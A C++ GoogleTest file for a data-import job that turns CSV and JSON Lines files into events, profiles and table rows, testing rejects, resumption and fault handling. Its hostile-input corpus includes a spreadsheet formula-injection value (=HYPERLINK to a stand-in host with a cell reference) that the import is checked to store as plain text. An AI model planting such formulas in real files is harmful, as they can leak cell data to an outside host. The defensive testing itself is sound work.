#include "files/import_job.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <mutex>
#include <set>

#include "files/cell_reader.h"
#include "io/sim_file_system.h"
#include "model/batch.h"
#include "model/time_text.h"

namespace waypost::files {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::StartsWith;
using ::testing::UnorderedElementsAre;

constexpr int64_t kNow = 1'775'000'000'000;  // 2026-03-31T23:33:20Z

// "event app_start login=1 @1970-01-01T00:00:00.000Z amount=int:7".
std::string Describe(const ItemView& item, std::span<const std::string_view> names) {
  static const std::map<ItemKind, std::string> kKinds = {{ItemKind::kEvent, "event"},
                                                         {ItemKind::kProfile, "profile"},
                                                         {ItemKind::kItem, "item"},
                                                         {ItemKind::kRow, "row"},
                                                         {ItemKind::kRowDelete, "row_delete"},
                                                         {ItemKind::kStagedRow, "staged_row"},
                                                         {ItemKind::kRowsReplace, "rows_replace"}};
  std::string out = kKinds.at(item.kind) + " " + std::string(item.what);
  if (!item.detail.empty()) out += " " + std::string(item.detail);
  for (const IdentityView& identity : item.identities) {
    out += " " + std::string(identity.key) + "=" + std::string(identity.value);
  }
  if (item.kind == ItemKind::kEvent) out += " @" + DateTimeText(item.meta.time_ms);
  for (const PropertyView& property : item.properties) {
    std::string scratch;
    out += " " + std::string(names[property.name]) + "=" +
           std::string(ValueTypeName(property.value.type)) + ":" +
           std::string(CellText(property.value, &scratch));
  }
  return out;
}

// Keeps every item, applying a chunk once as the engine does.
class ListSink final : public Sink {
 public:
  void Append(Bytes payload, std::function<void(Result<>)> done) override {
    {
      const std::lock_guard lock(mutex_);
      if (appended_++ == fail_at)
        return done(Error(Code::kUnavailable, "storage_full", "the disk is full"));
      BatchReader batch = BatchReader::Open(payload).value();
      EXPECT_FALSE(batch.header().import_chunk.empty());
      if (chunks_.insert(std::string(batch.header().import_chunk)).second) {
        while (const auto item = batch.Next().value())
          items.push_back(Describe(*item, batch.names()));
      }
    }
    done({});
  }

  std::vector<std::string> items;
  int fail_at = -1;  // this append, from 0, finds the disk full

 private:
  std::mutex mutex_;
  int appended_ = 0;
  std::set<std::string> chunks_;
};

class ImportJobTest : public ::testing::Test {
 protected:
  ImportJobTest() { EXPECT_TRUE(disk_.CreateDirectory("/in").ok()); }

  void Write(const std::string& path, std::string_view text) {
    if (disk_.FileSize(path).ok()) Must(disk_.Remove(path));
    auto file = disk_.Create(path).value();
    Must(file->Append(AsBytes(text)));
  }
  static void Must(const Result<>& result) { EXPECT_TRUE(result.ok()); }
  std::string Content(const std::string& path) {
    return std::string(AsText(io::ReadFile(disk_, path, 1 << 30).value()));
  }
  static Mapping Map(std::string_view text) {
    auto mapping = ParseMapping(text, "m.toml", [](const std::string&) { return std::string(); });
    if (!mapping.ok()) ADD_FAILURE() << mapping.error().message();
    return std::move(mapping).value();
  }
  Result<ImportReport> Import(const Mapping& mapping, ImportOptions options = {}) {
    options.sources = {"/in"};
    options.mapping = mapping;
    options.rejects_path = "/rejects.csv";
    return ImportJob(disk_, clock_, &sink_).Run(options);
  }

  io::SimFileSystem disk_;
  ManualClock clock_{kNow};
  ListSink sink_;
};

constexpr std::string_view kEvents = R"(kind = "events"
[[identity]]
key = "login"
column = "id"
[event]
column = "e"
names = { 1 = "app_start", 2 = "buy" }
[time]
column = "t"
format = "epoch_ms"
[properties]
amount = { column = "a", type = "decimal", null = ["0"] }
)";

TEST_F(ImportJobTest, RowsBecomeEventsByTheMapping) {
  Write("/in/a.csv", "id,e,t,a\nu1,1,1000,0\nu2,2,2000,12.5\n");
  const ImportReport report = Import(Map(kEvents)).value();
  EXPECT_THAT(sink_.items,
              ElementsAre("event app_start login=u1 @1970-01-01T00:00:01.000Z",
                          "event buy login=u2 @1970-01-01T00:00:02.000Z amount=decimal:12.5"));
  EXPECT_EQ(report.loaded, 2u);
  EXPECT_EQ(report.code(), std::string("ok"));
  EXPECT_THAT(report.Text(), HasSubstr("event buy: 1"));
}

TEST_F(ImportJobTest, RejectedRowsAreNamedAndTheRestIsLoadedOnce) {
  Write("/in/a.csv",
        "id,e,t,a\nu1,1,1000,0\nu2,3,2000,1\n,1,1,1\nu3,1,soon,1\nu4,1,4000,a "
        "lot\nu5,1\nu6,2,6000,1\n");
  const ImportReport report = Import(Map(kEvents)).value();
  EXPECT_EQ(report.loaded, 2u);
  EXPECT_EQ(report.rejected, 5u);
  EXPECT_EQ(sink_.items.size(), 2u);
  EXPECT_EQ(Content("/rejects.csv"),
            "file,line,column,reason,row\n"
            "/in/a.csv,3,e,is none of the names in the mapping,\"u2,3,2000,1\"\n"
            "/in/a.csv,4,id,is empty: a row needs an identity,\",1,1,1\"\n"
            "/in/a.csv,5,t,is not a time of the form the mapping says,\"u3,1,soon,1\"\n"
            "/in/a.csv,6,a,is not a number with at most four decimals,\"u4,1,4000,a lot\"\n"
            "/in/a.csv,7,,\"the line has 2 fields, but there are 4 columns\",\"u5,1\"\n");
}

TEST_F(ImportJobTest, FoldersGzipAndJsonLinesAreRead) {
  Write("/in/b.jsonl", "{\"id\":7,\"e\":\"2\",\"t\":1000,\"a\":1.25}\nnot json\n");
  Write("/in/notes.md", "not a table");
  EXPECT_EQ(Import(Map(kEvents)).value().rejected, 1u);
  EXPECT_THAT(sink_.items,
              ElementsAre("event buy login=7 @1970-01-01T00:00:01.000Z amount=decimal:1.25"));
}

TEST_F(ImportJobTest, TimesFarInTheFutureAreSetToNow) {
  Write("/in/a.csv", "id,e,t,a\nu1,1," + std::to_string(kNow + 3'600'001) + ",0\nu1,1," +
                         std::to_string(kNow + 3'600'000) + ",0\n");
  EXPECT_EQ(Import(Map(kEvents)).value().fixed_times, 1u);
  EXPECT_THAT(sink_.items, ElementsAre(HasSubstr(DateTimeText(kNow)),
                                       HasSubstr(DateTimeText(kNow + 3'600'000))));
}

TEST_F(ImportJobTest, SameMessageHasSameDedupKeyAndOthersNone) {
  std::string with_ids(kEvents);
  Write("/in/a.csv", "id,e,t,a,m\nu1,1,1000,0,x\nu1,1,1000,0,x\nu1,1,1000,0,\n");
  struct KeySink final : Sink {
    void Append(Bytes payload, std::function<void(Result<>)> done) override {
      BatchReader batch = BatchReader::Open(payload).value();
      while (const auto item = batch.Next().value()) keys.emplace_back(item->meta.dedup_key);
      done({});
    }
    std::vector<std::string> keys;
  } sink;
  ImportOptions options{.sources = {"/in"}, .mapping = Map("message_id = 'm'\n" + with_ids)};
  ASSERT_TRUE(ImportJob(disk_, clock_, &sink).Run(options).ok());
  ASSERT_EQ(sink.keys.size(), 3u);
  EXPECT_EQ(sink.keys[0], sink.keys[1]);
  EXPECT_FALSE(sink.keys[0].empty());
  EXPECT_TRUE(sink.keys[2].empty());
}

TEST_F(ImportJobTest, ADryRunLoadsNothingAndReportsTheSame) {
  Write("/in/a.csv", "id,e,t,a\nu1,1,1000,0\nu2,9,2000,1\n");
  const ImportReport dry = Import(Map(kEvents), {.dry_run = true}).value();
  EXPECT_THAT(sink_.items, IsEmpty());
  EXPECT_EQ(Import(Map(kEvents)).value().Text(), dry.Text());
}

TEST_F(ImportJobTest, ColumnsAndFilesThatAreNotThereAreNamed) {
  Write("/in/a.csv", "id,what\nu1,1\n");
  EXPECT_EQ(Import(Map(kEvents)).error().message(),
            "/in/a.csv: there is no column \"e\"; the file has id, what");
  EXPECT_EQ(ImportJob(disk_, clock_, &sink_)
                .Run({.sources = {"/gone.csv"}, .mapping = Map(kEvents)})
                .error()
                .code(),
            Code::kNotFound);
  EXPECT_TRUE(disk_.CreateDirectory("/empty").ok());
  EXPECT_THAT(ImportJob(disk_, clock_, &sink_)
                  .Run({.sources = {"/empty"}, .mapping = Map(kEvents)})
                  .error()
                  .message(),
              StartsWith("/empty: the folder has no file"));
}

TEST_F(ImportJobTest, CheckFirstLoadsNothingOfAFileThatIsBadAtItsEnd) {
  std::string text = "id,e,t,a\n";
  for (int i = 0; i < 100'000; ++i) text += "u1,1,1000,0\n";
  Write("/in/a.csv", text + "u1,\"1,1000,0\n");
  const auto result = Import(Map(kEvents), {.check_first = true});
  ASSERT_FALSE(result.ok());
  EXPECT_EQ(result.error().name(), "bad_file");
  EXPECT_THAT(result.error().message(),
              HasSubstr("the quote opened on line 100002 is never closed"));
  EXPECT_THAT(sink_.items, IsEmpty());
}

// 100,000 rows in two files, a few of them bad.
class ResumeTest : public ImportJobTest {
 protected:
  ResumeTest() {
    std::string one = "id,e,t,a\n", two = one;
    for (int i = 0; i < 80'000; ++i)
      one += "a" + std::to_string(i) + ",1,1000," + (i % 9'000 ? "0" : "x") + "\n";
    for (int i = 0; i < 20'000; ++i)
      two += "b" + std::to_string(i) + ",1,1000," + (i % 9'000 ? "0" : "x") + "\n";
    Write("/in/one.csv", one);
    Write("/in/two.csv", two);
  }
  void ExpectEverythingOnce(const ImportReport& report) {
    EXPECT_EQ(report.rows, 100'000u);
    EXPECT_EQ(report.loaded, 99'988u);
    EXPECT_EQ(report.rejected, 12u);
    EXPECT_EQ(sink_.items.size(), 99'988u);
    EXPECT_EQ(std::set<std::string>(sink_.items.begin(), sink_.items.end()).size(), 99'988u);
    const std::string rejects = Content("/rejects.csv");
    EXPECT_EQ(std::count(rejects.begin(), rejects.end(), '\n'), 13);
  }
};

TEST_F(ResumeTest, ARerunAfterAnyFailedAppendLoadsTheRestOnce) {
  for (int fail_at = 0; fail_at < 4; ++fail_at) {
    const std::string id = "try-" + std::to_string(fail_at);
    const ImportOptions options{.sources = {"/in"},
                                .mapping = Map(kEvents),
                                .import_id = id,
                                .state_path = "/" + id + ".state",
                                .rejects_path = "/rejects.csv"};
    ListSink sink;
    sink.fail_at = fail_at;
    const auto first = ImportJob(disk_, clock_, &sink).Run(options);
    ASSERT_FALSE(first.ok());
    EXPECT_EQ(first.error().name(), "storage_full");
    sink.fail_at = -1;
    const ImportReport report = ImportJob(disk_, clock_, &sink).Run(options).value();
    sink_.items = sink.items;
    ExpectEverythingOnce(report);
  }
}

TEST_F(ResumeTest, ARerunWithoutStateLoadsNothingTwice) {
  EXPECT_EQ(Import(Map(kEvents)).value().loaded, 99'988u);
  ExpectEverythingOnce(Import(Map(kEvents), {.threads = 1}).value());
}

TEST_F(ResumeTest, AFinishedImportIsNotReadAgain) {
  const ImportOptions options{.state_path = "/state"};
  ASSERT_TRUE(Import(Map(kEvents), options).ok());
  ExpectEverythingOnce(Import(Map(kEvents), options).value());
}

TEST_F(ResumeTest, AStateOfAnotherMappingIsRefused) {
  const ImportOptions options{.state_path = "/state"};
  ASSERT_TRUE(Import(Map(kEvents), options).ok());
  Mapping other = Map(kEvents);
  other.table.zone = "Asia/Shanghai";
  EXPECT_EQ(Import(other, options).error().name(), "other_import");
  Write("/state", "something else");
  EXPECT_EQ(Import(Map(kEvents), options).error().code(), Code::kCorrupt);
}

TEST_F(ImportJobTest, RejectedRowsGoToTheFileNamedThisTime) {
  const auto rejected = [&](const std::string& file, const std::string& path) {
    Write("/in/" + file, "id,e,t,a\n" + file + ",1,1000,x\n");
    const ImportOptions options{.sources = {"/in/" + file},
                                .mapping = Map(kEvents),
                                .state_path = "/state",
                                .rejects_path = path};
    const auto report = ImportJob(disk_, clock_, &sink_).Run(options);
    return report.ok() ? Content(path) : report.error().message();
  };
  const auto row = [](const std::string& file) {
    return "/in/" + file + ",2,a,is not a number with at most four decimals,\"" + file +
           ",1,1000,x\"\n";
  };
  const std::string header = "file,line,column,reason,row\n";
  Write("/mine.csv", std::string(1'000, 'm'));
  EXPECT_EQ(rejected("one.csv", "/first.csv"), header + row("one.csv"));
  EXPECT_EQ(rejected("two.csv", "/first.csv"), header + row("one.csv") + row("two.csv"));
  EXPECT_EQ(rejected("three.csv", "/second.csv"), header + row("three.csv"));
  EXPECT_EQ(rejected("four.csv", "/mine.csv"), header + row("four.csv"));
  ASSERT_TRUE(disk_.Remove("/mine.csv").ok());
  EXPECT_EQ(rejected("five.csv", "/mine.csv"), header + row("five.csv"));
  Write("/mine.csv", "cut");
  EXPECT_THAT(rejected("six.csv", "/mine.csv"), testing::HasSubstr("/mine.csv is shorter"));
}

TEST_F(ResumeTest, StopSavesWhatIsDone) {
  ImportJob job(disk_, clock_, &sink_);
  ImportOptions options{.sources = {"/in"},
                        .mapping = Map(kEvents),
                        .state_path = "/state",
                        .rejects_path = "/rejects.csv"};
  job.Stop();
  EXPECT_EQ(job.Run(options).error().name(), "stopped");
  ExpectEverythingOnce(ImportJob(disk_, clock_, &sink_).Run(options).value());
}

TEST_F(ImportJobTest, AnyFailureOfTheDiskLeavesAnImportThatCanGoOn) {
  for (const char* name : {"one", "two", "three"}) {
    Write(std::string("/in/") + name + ".csv",
          std::string("id,e,t,a\n") + name + ",1,1000,0\n" + name + ",1,1000,x\n");
  }
  bool failed = true;
  for (uint64_t at = 1; failed; ++at) {
    sink_.items.clear();
    const std::string id = "fault-" + std::to_string(at);
    const ImportOptions options{.import_id = id, .state_path = "/" + id, .threads = 1};
    disk_.InjectFault({.at = at, .kind = io::FaultKind::kIoError});
    failed = !Import(Map(kEvents), options).ok();
    disk_.ClearFault();
    const auto report = Import(Map(kEvents), options);
    ASSERT_TRUE(report.ok()) << at << report.error().message();
    EXPECT_EQ(report.value().loaded, 3u);
    EXPECT_EQ(report.value().rejected, 3u);
    EXPECT_EQ(sink_.items.size(), 3u);
    const std::string rejects = Content("/rejects.csv");
    EXPECT_EQ(std::count(rejects.begin(), rejects.end(), '\n'), 4);
  }
}

// Rows of the hostile-input corpus that reach an import: what comes in, and what must come of it.
struct BadInput {
  std::string name;
  std::string bytes;
  std::string bad_file;              // not empty: refused so, and nothing is loaded
  std::vector<std::string> items;    // else loaded
  std::vector<std::string> rejects;  // and lines in the rejects file, from the line number on
  std::string code = "ok";
};

void PrintTo(const BadInput& input, std::ostream* out) { *out << input.name; }

std::vector<BadInput> BadInputs() {
  std::string wide = "id";
  for (int i = 1; i <= 1000; ++i) wide += ",c" + std::to_string(i);
  return {
      {"missing key column", "phone\n1\n", "there is no column \"id\"", {}, {}},
      {"1,001 columns", wide + "\n", "1001 columns", {}, {}},
      {"GBK as UTF-8", "id,a\n1,\xD5\xC5\xC8\xFD\n", "encoding = \"gbk\"", {}, {}},
      {"xlsx named csv", std::string("PK\x03\x04") + std::string(100, '\0'), "zip or xlsx", {}, {}},
      {"open quote",
       "id,a\n1,x\n2,\"" + std::string(64 << 20, 'x'),
       "the quote opened on line 3",
       {},
       {}},
      {"duplicate keys",
       "id,a\n1,x\n1,y\n",
       "",
       {"profile set login=1 a=string:x", "profile set login=1 a=string:y"},
       {},
       "row_errors"},
      {"DST birthday",
       "id,birthday\n1,1988-06-01 00:00:00\n",
       "",
       {"profile set login=1 birthday=date:1988-06-01"},
       {}},
      {"non-existent time",
       "id,t\n1,1988-04-17 02:30:00\n2,1988-04-17 03:30:00\n",
       "",
       {"profile set login=2 t=datetime:1988-04-16T18:30:00.000Z"},
       {"2,t,is a time that did not exist: clocks were put forward over it,\"1,1988-04-17 "
        "02:30:00\""},
       "row_errors"},
      {"full-width digits",
       "id,phone\n1,１３８００１３８０００\n",
       "",
       {"profile set login=1 phone=string:13800138000"},
       {},
       "row_errors"},
      {"protected field",
       "id,consent_status,oneid\n1,granted,42\n2,,\n",
       "",
       {"profile set login=2"},
       {"2,consent_status,\"is protected and cannot be loaded from files; empty it, or add it to "
        "ignore in the mapping\",\"1,granted,42\""},
       "row_errors"},
      {"formula",
       "id,a\n1,\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"y\"\")\"\n",
       "",
       {"profile set login=1 a=string:=HYPERLINK(\"http://x/?\"&A1,\"y\")"},
       {}},
      {"leading plus",
       "id,phone\n1,+8613800138000\n",
       "",
       {"profile set login=1 phone=string:+8613800138000"},
       {}},
      {"leading zeros", "id,a\n00123,x\n", "", {"profile set login=00123 a=string:x"}, {}},
      {"UTF-8 BOM", "\xEF\xBB\xBFid,a\n1,x\n", "", {"profile set login=1 a=string:x"}, {}},
  };
}

// Every column but id is a property: birthday a date, t a time in Shanghai, the rest text.
Mapping ProfileMapping(std::string_view header) {
  Mapping mapping;
  mapping.kind = Mapping::Kind::kProfiles;
  mapping.identities = {{.key = "login", .column = "id"}};
  mapping.table.zone = "Asia/Shanghai";
  for (std::string_view name : {"a", "phone", "birthday", "t"}) {
    const ValueType type = name == "birthday" ? ValueType::kDate
                           : name == "t"      ? ValueType::kDateTime
                                              : ValueType::kString;
    if (("," + std::string(header) + ",").find("," + std::string(name) + ",") !=
        std::string::npos) {
      mapping.properties.push_back(
          {.name = std::string(name), .column = std::string(name), .type = type});
    }
  }
  return mapping;
}

class BadInputTest : public ImportJobTest, public ::testing::WithParamInterface<BadInput> {};

TEST_P(BadInputTest, HasTheStatedOutcome) {
  const BadInput& input = GetParam();
  Write("/in/a.csv", input.bytes);
  const auto report =
      Import(ProfileMapping(input.bytes.substr(0, input.bytes.find('\n'))), {.check_first = true});
  EXPECT_EQ(sink_.items, input.items);
  if (!input.bad_file.empty()) {
    ASSERT_FALSE(report.ok());
    EXPECT_EQ(report.error().name(), "bad_file");
    EXPECT_THAT(report.error().message(), HasSubstr(input.bad_file));
    return;
  }
  ASSERT_TRUE(report.ok()) << report.error().message();
  EXPECT_EQ(report.value().code(), input.code);
  std::string rejects = "file,line,column,reason,row\n";
  for (const std::string& line : input.rejects) rejects += "/in/a.csv," + line + "\n";
  EXPECT_EQ(Content("/rejects.csv"), rejects);
}

INSTANTIATE_TEST_SUITE_P(Corpus, BadInputTest, ::testing::ValuesIn(BadInputs()),
                         [](const auto& test) {
                           std::string name = test.param.name;
                           std::ranges::replace_if(
                               name,
                               [](char c) { return !std::isalnum(static_cast<unsigned char>(c)); },
                               '_');
                           return name;
                         });

TEST_F(ImportJobTest, RowsWithoutAnIdentityAreKnownByTheirPlaceInTheirFile) {
  const Mapping mapping =
      Map("kind = \"profiles\"\n[[identity]]\nkey = \"row\"\ncolumn = \"$row\"\n"
          "[properties]\nage = \"int\"\n");
  Write("/in/a.csv", "age\n30\n30\n");
  EXPECT_EQ(Import(mapping).value().loaded, 2u);
  EXPECT_THAT(sink_.items, UnorderedElementsAre(HasSubstr("row=a.csv:1 age=int:30"),
                                                HasSubstr("row=a.csv:2 age=int:30")));
  Must(disk_.CreateDirectory("/more"));
  Write("/more/a.csv", "age\n31\n");
  const auto twice =
      ImportJob(disk_, clock_, &sink_).Run({.sources = {"/in", "/more"}, .mapping = mapping});
  EXPECT_THAT(twice.error().message(),
              StartsWith("/more/a.csv: another file of the import has that name"));
  EXPECT_EQ(sink_.items.size(), 2u);
}

constexpr std::string_view kRows = R"(kind = "rows"
[rows]
table = "employee"
mode = "replace"
[[identity]]
key = "login"
column = "user"
[properties]
employee_id = "int"
org_id = "int"
)";

// Names that mean something of customers mean nothing of a table's columns.
TEST_F(ImportJobTest, RowsCarryTheirColumnsAndWhoseTheyAre) {
  Write("/in/a.csv", "employee_id,org_id,user\n1,7,ann\n2,8,\n3,x,bob\n");
  Mapping mapping = Map(kRows);
  mapping.rows.mode = RowsRule::Mode::kUpsert;
  const auto report = Import(mapping);
  ASSERT_TRUE(report.ok()) << report.error().message();
  EXPECT_THAT(sink_.items, ElementsAre("row employee login=ann employee_id=int:1 org_id=int:7"));
  EXPECT_EQ(report.value().rejected, 2u);
  mapping.rows = {.table = "visit", .mode = RowsRule::Mode::kDelete, .numbered = true};
  mapping.identities.clear();
  ASSERT_TRUE(Import(mapping).ok());
  EXPECT_EQ(sink_.items[1], "row_delete visit a.csv:1 employee_id=int:1 org_id=int:7");
  EXPECT_EQ(ParseMapping(MappingText(mapping), "m", {}).value().rows.numbered, true);
}

TEST_F(ImportJobTest, AReplacementIsWholeOrGoesOnAndEndsOnce) {
  Write("/in/a.csv", "employee_id,org_id,user\n1,7,ann\n");
  Write("/in/b.csv", "employee_id,org_id,user\n2,8,bob\n");
  const Mapping mapping = Map(kRows);
  const ImportOptions options{.state_path = "/state", .threads = 1};
  sink_.fail_at = 1;
  EXPECT_FALSE(Import(mapping, options).ok());
  clock_.Advance(1'000);
  sink_.fail_at = 3;  // the end itself
  EXPECT_FALSE(Import(mapping, options).ok());
  clock_.Advance(1'000);
  ASSERT_TRUE(Import(mapping, options).ok());
  EXPECT_THAT(sink_.items,
              ElementsAre("staged_row employee login=ann employee_id=int:1 org_id=int:7",
                          "staged_row employee login=bob employee_id=int:2 org_id=int:8",
                          "rows_replace employee"));
  // What was loaded once may have been changed since: given again it is loaded again.
  clock_.Advance(1'000);
  ASSERT_TRUE(Import(mapping, options).ok());
  EXPECT_EQ(sink_.items.size(), 6u);
}

TEST_F(ImportJobTest, AReplacementOfWhichNoRowFitsTakesNothingAway) {
  Write("/in/a.csv", "employee_id,org_id,user\nCNY 1,7,ann\nCNY 2,8,bob\n");
  const auto refused = Import(Map(kRows));
  ASSERT_FALSE(refused.ok());
  EXPECT_THAT(refused.error().message(), StartsWith("none of the 2 rows fits"));
  EXPECT_TRUE(sink_.items.empty());
  Write("/in/a.csv", "employee_id,org_id,user\n");
  ASSERT_TRUE(Import(Map(kRows)).ok());
  EXPECT_THAT(sink_.items, ElementsAre("rows_replace employee")) << "an empty table is one";
}

}  // namespace
}  // namespace waypost::files
